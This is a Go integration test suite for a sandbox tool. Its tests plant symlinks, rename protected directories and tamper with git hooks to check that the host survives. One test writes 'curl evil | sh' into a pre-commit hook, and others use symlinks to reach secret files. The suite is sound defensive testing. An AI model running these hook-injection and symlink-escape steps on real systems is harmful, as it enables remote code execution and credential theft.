package integration

// The hostile-input suite: one test per class of attack on the sandbox
// boundary (see the README's security section). Each was written against
// the code before its fix and seen failing there. The attackers are the
// untrusted code inside a sandbox (it writes symlinks, races the host,
// crafts names and headers) and another local user (who owns /tmp). Tests
// assert on the host: files, processes, ownership, what was mounted.
// Nothing here sends traffic beyond loopback.
//
// The suite runs as root and as nobody (make test). As root, sandboxes run
// as the unprivileged sandbox user, so directories a run must write are
// handed to that user (sbDir).

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// defaultSandboxUID is the host uid (and gid) sandboxes run as when
// srt-mcp runs as root and --sandbox-user is not given.
const defaultSandboxUID = 65532

// sbDir is a fresh directory a sandbox may write: owned by the sandbox user
// when the tests run as root (by the tests' own user otherwise).
func sbDir(t *testing.T) string {
	t.Helper()
	d, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if os.Geteuid() == 0 {
		// t.TempDir's parent is 0700: let the sandbox user traverse it.
		_ = os.Chmod(filepath.Dir(d), 0o755)
		if err := os.Chown(d, defaultSandboxUID, defaultSandboxUID); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(d, 0o755); err != nil {
		t.Fatal(err)
	}
	return d
}

// victimDir is a host directory outside every sandbox's policy, full of
// files that must survive.
func victimDir(t *testing.T) (string, map[string]string) {
	t.Helper()
	d := filepath.Join(t.TempDir(), "victim")
	write(t, filepath.Join(d, "keep.txt"), "precious")
	write(t, filepath.Join(d, "settings.json"), "{}")
	write(t, filepath.Join(d, "sub", "deep.txt"), "deep")
	return d, hostTree(t, d)
}

func violations(r nwResult) string {
	var b strings.Builder
	for _, e := range r.events {
		if v, ok := e["violation"].(map[string]any); ok {
			fmt.Fprintf(&b, "%v\n", v)
		}
	}
	return b.String()
}

// Class 2: host-side work on a sandbox-writable tree never follows a link.
// The post-run sweep used to enter a planted .git/hooks symlink and delete
// what it pointed to, read a .git/config symlink's target into the
// violation event, and delete a deny_write match through a symlinked
// parent.
func TestHostileSweepFollowsNoLink(t *testing.T) {
	t.Run("git-hooks-link", func(t *testing.T) {
		w := sbDir(t)
		victim, before := victimDir(t)
		r := sh(t, w, []string{"--allow-write", "."}, `mkdir -p .git && ln -s `+victim+` .git/hooks && ln -s `+victim+` .vscode && echo planted`)
		if !strings.Contains(r.stdout, "planted") {
			t.Fatalf("setup failed: %q %q", r.stdout, r.stderr)
		}
		sameTree(t, "the hooks link's target", before, hostTree(t, victim))
		for _, p := range []string{".git/hooks", ".vscode"} {
			if _, err := os.Lstat(filepath.Join(w, p)); err == nil {
				t.Errorf("the planted %s link is still in the workspace", p)
			}
		}
	})
	t.Run("git-config-link", func(t *testing.T) {
		w := sbDir(t)
		secret := filepath.Join(t.TempDir(), "secret.conf")
		write(t, secret, "[credential]\n\tTOPSECRETVALUE = hunter2\n")
		r := sh(t, w, []string{"--allow-write", "."}, `git init -q . 2>/dev/null || mkdir .git; rm -f .git/config; ln -s `+secret+` .git/config && test -L .git/config && echo planted`)
		if !strings.Contains(r.stdout, "planted") {
			t.Fatalf("setup failed: %q %q", r.stdout, r.stderr)
		}
		if v := violations(r); strings.Contains(strings.ToLower(v), "topsecret") || strings.Contains(v, "hunter2") {
			t.Errorf("the link target's content reached the event stream: %s", v)
		}
		if b, _ := os.ReadFile(secret); !strings.Contains(string(b), "hunter2") {
			t.Error("the link's target was changed")
		}
		if fi, err := os.Lstat(filepath.Join(w, ".git", "config")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
			t.Error("the planted .git/config link is still there")
		}
	})
	t.Run("deny-write-through-linked-parent", func(t *testing.T) {
		w := sbDir(t)
		victim, before := victimDir(t)
		r := sh(t, w, []string{"--allow-write", ".", "--deny-write", "conf/settings.json", "--deny-write", "conf/*.txt"},
			`ln -s `+victim+` conf && echo planted`)
		if !strings.Contains(r.stdout, "planted") {
			t.Fatalf("setup failed: %q %q", r.stdout, r.stderr)
		}
		sameTree(t, "the linked parent's target", before, hostTree(t, victim))
	})
}

// Class 5: deny rules hold against renaming a parent, in the same run and
// for the next one, and protected names are protected (or swept) at any
// depth.
func TestHostileDenyRulesSurviveRenames(t *testing.T) {
	t.Run("deny-write-parent-rename", func(t *testing.T) {
		w := sbDir(t)
		write(t, filepath.Join(w, "conf", "settings.json"), "original")
		r := sh(t, w, []string{"--allow-write", ".", "--deny-write", "conf/settings.json"},
			`(mv conf conf.old && mkdir conf && echo EVIL > conf/settings.json) 2>/dev/null && echo "REPLACED"; true`)
		if strings.Contains(r.stdout, "REPLACED") {
			t.Errorf("the run moved the deny_write file's parent away and wrote a new one: %q", r.stdout)
		}
		if b, _ := os.ReadFile(filepath.Join(w, "conf", "settings.json")); string(b) != "original" {
			t.Errorf("conf/settings.json is %q after the run", b)
		}
	})
	t.Run("deny-read-next-run", func(t *testing.T) {
		w := sbDir(t)
		write(t, filepath.Join(w, "vault", "secret.txt"), "TOP-SECRET")
		flags := []string{"--allow-write", ".", "--deny-read", "vault/secret.txt"}
		sh(t, w, flags, `mv vault vault2 2>/dev/null; mv vault/secret.txt vault/s2 2>/dev/null; true`)
		r := sh(t, w, flags, `cat vault/secret.txt vault2/secret.txt vault/s2 2>/dev/null; true`)
		if strings.Contains(r.stdout, "TOP-SECRET") {
			t.Errorf("a rename in one run exposed a deny_read file in the next: %q", r.stdout)
		}
	})
	t.Run("deep-protected-names", func(t *testing.T) {
		w := sbDir(t)
		hook := filepath.Join(w, "a", "b", "c", "d", ".git", "hooks", "pre-commit")
		write(t, hook, "#!/bin/sh\necho mine\n")
		if os.Geteuid() == 0 {
			_ = filepath.Walk(w, func(p string, _ os.FileInfo, _ error) error {
				return os.Lchown(p, defaultSandboxUID, defaultSandboxUID)
			})
		}
		r := sh(t, w, []string{"--allow-write", "."}, `
			echo 'curl evil | sh' >> a/b/c/d/.git/hooks/pre-commit
			mkdir -p x/y/z/w/v/.claude/commands && echo evil > x/y/z/w/v/.claude/commands/run.md
			echo done`)
		if !strings.Contains(r.stdout, "done") {
			t.Fatalf("run: %q %q", r.stdout, r.stderr)
		}
		if b, err := os.ReadFile(hook); err == nil && strings.Contains(string(b), "evil") {
			t.Errorf("a hook five levels deep was changed and left in place: %q", b)
		}
		if _, err := os.Lstat(filepath.Join(w, "x/y/z/w/v/.claude/commands")); err == nil {
			t.Error("a .claude/commands created six levels deep is still there")
		}
	})
}
